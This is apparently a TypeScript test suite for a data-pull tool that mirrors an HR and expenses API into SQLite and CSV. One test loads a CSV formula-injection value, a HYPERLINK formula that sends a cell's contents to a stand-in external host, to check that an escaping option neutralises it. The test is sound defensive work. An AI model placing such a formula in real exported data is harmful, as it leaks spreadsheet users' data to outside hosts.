      assert.equal(run.code, 1, run.stderr);
      assert.equal(
        run.stderr,
        `cdapi-pull: ${option} ${closed}: this user may not write in the folder (its permissions, or a read-only file system)\n`,
      );
      assert.equal(existsSync(out), false, 'nothing pulled');
    }
    chmodSync(closed, 0o777);
    const run = await runPull(['--base-url', base, '--out', out, '--csv', closed], key, user);
    assert.equal(run.code, 0, run.stderr);
  });

  it('pulls only the resources named, and refuses a file pulled with other resources', async (t) => {
    const { api, base, key, out, dir } = await pullSetup(t);
    const run = await runPull(
      ['--base-url', base, '--out', out, '--resources', 'leave_type,employee', '--json'],
      key,
    );
    assert.equal(run.code, 0, run.stderr);
    const { tables } = readMirror(out);
    assert.equal(tables.employees?.length, EMPLOYEES);
    assert.equal(tables.leave_types?.length, 2);
    // No table, nor CSV, of a resource not read: an empty one would say the company has none.
    assert.deepEqual(Object.keys(tables), ['employees', 'leave_types']);
    const csv = join(dir, 'csv');
    const withCsv = ['--base-url', base, '--out', out, '--resources', 'leave_type,employee'];
    assert.equal((await runPull([...withCsv, '--csv', csv], key)).code, 0);
    assert.deepEqual(readdirSync(csv).sort(), ['employees.csv', 'leave_types.csv']);
    const receipts = await runPull([...withCsv, '--receipts', join(dir, 'receipts')], key);
    assert.equal(receipts.code, 1);
    assert.equal(
      receipts.stderr,
      'cdapi-pull: --receipts: this run does not read expenses (--resources leaves them out), so it has no receipt to download\n',
    );
    // The same set in another order, a name twice: the same resources.
    const again = ['--base-url', base, '--out', out, '--resources', 'employee,leave_type,employee'];
    const same = await runPull(again, key);
    assert.equal(same.code, 0, same.stderr);
    const other = await runPull(['--base-url', base, '--out', out], key);
    assert.equal(other.code, 1);
    assert.equal(
      other.stderr,
      'cdapi-pull: the output file was pulled with resources employee,leave_type, not employee,leave_type,leave,expense_category,expense (without --resources, the resources the key may read): use another file\n',
    );
    assert.equal(existsSync(out), true);
    // Without --resources, the key's scopes make the set: another key's file is refused.
    const leavesOnly = await api.createKey(1, { scopes: ['leaves.read'] });
    const mirror = join(dir, 'leaves-key.sqlite');
    const noExpenses = await runPull(
      ['--base-url', base, '--out', mirror, '--receipts', join(dir, 'receipts')],
      leavesOnly,
    );
    assert.equal(noExpenses.code, 1);
    assert.match(noExpenses.stderr, /\(the key lacks the expenses\.read scope\)/);
    assert.equal(existsSync(mirror), false, 'a first run that failed leaves no file');
    assert.equal((await runPull(['--base-url', base, '--out', mirror], leavesOnly)).code, 0);
    assert.deepEqual(Object.keys(readMirror(mirror).tables), [
      'employees',
      'leave_types',
      'leaves',
    ]);
    const full = await runPull(['--base-url', base, '--out', mirror], key);
    assert.equal(full.code, 1);
    assert.match(full.stderr, /pulled with resources employee,leave_type,leave, not employee,/);
    // A file of an earlier release recorded the default as an empty text: the set read now.
    const old = new DatabaseSync(mirror);
    old.prepare("update _cdapi_state set value = '' where name = 'resources'").run();
    old.close();
    assert.equal((await runPull(['--base-url', base, '--out', mirror], leavesOnly)).code, 0);
    assert.equal((await runPull(['--base-url', base, '--out', mirror], key)).code, 1);
  });

  it('makes each table with its record’s fields as columns, so a resource the company has none of shows them', async (t) => {
    const { api, base, dir, out } = await pullSetup(t);
    // Company 2 has an employee, a leave type and a leave, but no expense nor category.
    const key = await api.createKey(2);
    const csv = join(dir, 'csv');
    const run = await runPull(['--base-url', base, '--out', out, '--csv', csv], key);
    assert.equal(run.code, 0, run.stderr);
    const document = JSON.parse(readFileSync('openapi.json', 'utf8'));
    const fieldsOf = (model: string) => Object.keys(document.components.schemas[model].properties);
    const columnsOf = (file: string, table: string) => {
      const db = new DatabaseSync(file);
      const names = db
        .prepare(`PRAGMA table_info(${table})`)
        .all()
        .map((row) => String(row.name));
      db.close();
      return names;
    };
    const models = {
      employees: 'Employee',
      leave_types: 'LeaveType',
      leaves: 'LeaveDetail',
      expense_categories: 'ExpenseCategory',
      expenses: 'ExpenseDetail',
    };
    for (const [table, model] of Object.entries(models)) {
      assert.deepEqual(columnsOf(out, table), fieldsOf(model), table);
    }
    assert.equal(readMirror(out).tables.expenses?.length, 0);
    assert.equal(
      readFileSync(join(csv, 'expenses.csv'), 'utf8'),
      `${fieldsOf('ExpenseDetail').join(',')}\r\n`,
    );
    // A file an earlier version made, its empty tables with `id` alone, gains the rest.
    const old = new DatabaseSync(out);
    old.exec(
      'ALTER TABLE expense_categories DROP COLUMN name; ALTER TABLE expense_categories DROP COLUMN max_amount',
    );
    old.close();
    assert.equal((await runPull(['--base-url', base, '--out', out], key)).code, 0);
    assert.deepEqual(
      columnsOf(out, 'expense_categories').sort(),
      fieldsOf('ExpenseCategory').sort(),
    );
  });

  it('draws a progress bar with rate and ETA on a terminal', async (t) => {
    const { base, key, out } = await pullSetup(t);
    const run = await runPullOnTerminal(
      ['--base-url', base, '--out', out, '--page-size', '20'],
      key,
    );
    assert.ok(
      run.includes('\r\u001b[K['),
      'the bar is redrawn in place: carriage return, clear line',
    );
    assert.match(run, /\[#+-*\] +\d+% \d+\/\d+ records · [\d,]+\/s · ETA \d+:\d\d/);
    assert.match(run, new RegExp(`\\[#{24}\\] 100% ${TOTAL}/${TOTAL} records`));
  });

  it('paces itself by the RateLimit header: more requests than the key’s minute allows, no 429', async (t) => {
    const { base, key, out, seen, client } = await pullSetup(t, { perMinute: 10 });
    const run = await runPull(['--base-url', base, '--out', out, '--page-size', '50'], key);
    assert.equal(run.code, 0, run.stderr);
    assert.ok(
      seen.changes > 5,
      `${seen.changes} pages, past the 10 requests a minute with the rest`,
    );
    assert.equal(seen.tooMany, 0);
    assert.match(run.stderr, /cdapi-pull: rate limit reached: waiting \d+ s for a free slot\n/);
    const compared = await listsAndMirror(client, out);
    assert.deepEqual(compared.mirror, compared.service);
  });

  it('pulls the demo company with its receipts on the demo key (120 a minute) without a 429', async (t) => {
    const { base, key, dir, out, seen, client } = await pullSetup(t, { demo: true });
    const receipts = join(dir, 'receipts');
    const run = await runPull(['--base-url', base, '--out', out, '--receipts', receipts], key);
    assert.equal(run.code, 0, run.stderr);
    assert.equal(seen.tooMany, 0);
    assert.ok(readdirSync(receipts).length > 0);
    const compared = await listsAndMirror(client, out);
    assert.deepEqual(compared.mirror, compared.service);
  });
});

describe('cdapi-pull progress', () => {
  it('counts past an estimate that fell short (the feed’s deletions are not in the lists’ totals)', () => {
    let shown = '';
    const write = (text: string) => {
      shown += text;
      return true;
    };
    const progress = terminalProgress({ write, isTTY: true });
    progress.start('records', 10);
    progress.advance(12);
    progress.finish();
    const last = shown.split('\r\x1b[K').at(-1) ?? '';
    assert.match(last, /^\[#+\] 100% 12\/12 records · [\d,]+\/s · ETA 0:00\n$/);
  });

  it('names one item in the singular', () => {
    let shown = '';
    const progress = lineProgress({
      write: (text: string) => {
        shown += text;
        return true;
      },
    });
    for (const [label, count] of [
      ['receipts', 1],
      ['records', 1],
      ['receipts', 2],
    ] as const) {
      progress.start(label, count);
      progress.advance(count);
      progress.finish();
    }
    const finished = shown.split('\n').filter((line) => / in [\d.]+ s$/.test(line));
    assert.deepEqual(
      finished.map((line) => line.replace(/ in [\d.]+ s$/, '')),
      ['cdapi-pull: 1 receipt', 'cdapi-pull: 1 record', 'cdapi-pull: 2 receipts'],
    );
  });

  it('begins text a spreadsheet would run as a formula with a quote, with --csv-escape-formulas only', async (t) => {
    const { api, base, key, out, dir } = await pullSetup(t);
    await api.load([
      expense(1, 2, 3, 1, {
        title: '=HYPERLINK("http://x.example/?"&A1,"Open")',
        merchant_name: '-2+3',
      }),
    ]);
    const csv = join(dir, 'csv');
    const titleOf = () => {
      const lines = readFileSync(join(csv, 'expenses.csv'), 'utf8').split('\r\n');
      return lines.find((line) => line.startsWith('2,')) ?? '';
    };
    const args = ['--base-url', base, '--out', out, '--csv', csv];
    assert.equal((await runPull(args, key)).code, 0);
    assert.match(titleOf(), /,"=HYPERLINK\(""http:\/\/x\.example\/\?""&A1,""Open""\)",/);
    assert.match(titleOf(), /,-2\+3,/);
    assert.equal((await runPull([...args, '--csv-escape-formulas'], key)).code, 0);
    assert.match(titleOf(), /,"'=HYPERLINK\(""http:\/\/x\.example\/\?""&A1,""Open""\)",/);
    assert.match(titleOf(), /,'-2\+3,/);
    // The mirror keeps the values as they are.
    const { tables } = readMirror(out);
    assert.equal(tables.expenses?.find((row) => row.id === 2)?.merchant_name, '-2+3');
    const alone = await runPull(['--base-url', base, '--out', out, '--csv-escape-formulas'], key);
    assert.equal(alone.code, 2);
    assert.match(alone.stderr, /--csv-escape-formulas: give --csv DIR too/);
  });

  it('writes null as an empty CSV field and the empty string quoted, as COPY … CSV reads them', () => {
    assert.deepEqual(
      [null, '', ' ', 'a,b', 'say "hi"', 'two\nlines', 12.5, '=1+1'].map((value) =>
        csvField(value),
      ),
      ['', '""', ' ', '"a,b"', '"say ""hi"""', '"two\nlines"', '12.5', '=1+1'],
    );
    const escaped = (value: string | number | null) => csvField(value, true);
    assert.deepEqual(
      ['=1+1', '+90 555', '-2', '@SUM(A1)', '\tx', '\rx', 'a=b', -2, null, ''].map(escaped),
      ["'=1+1", "'+90 555", "'-2", "'@SUM(A1)", "'\tx", `"'\rx"`, 'a=b', '-2', '', '""'],
    );
  });
});
